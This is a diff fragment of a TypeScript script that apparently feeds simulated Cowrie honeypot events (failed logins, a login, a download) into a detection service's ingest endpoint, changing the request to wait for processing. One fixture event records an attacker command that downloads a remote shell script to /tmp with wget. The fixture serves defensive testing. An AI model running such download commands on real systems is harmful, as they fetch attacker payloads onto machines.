@@ -179,7 +179,7 @@ async function main(): Promise<void> {
     { eventid: "cowrie.command.input", timestamp: at(25), src_ip: attacker, session: "a1b2c3", input: "wget http://198.51.100.9/x.sh -O /tmp/x.sh" },
   ];
   say(`sending ${events.length} Cowrie events from ${attacker} (8 failed logins in 16 s, a login, a download)`);
-  const ingest = await fetch(`${api}/api/v1/ingest/cowrie`, {
+  const ingest = await fetch(`${api}/api/v1/ingest/cowrie?wait=true`, {
     method: "POST", headers: { authorization: `Bearer ${secretData["ingest-token"]}`, "content-type": "application/x-ndjson" },
     body: events.map((e) => JSON.stringify(e)).join("\n"),
   });
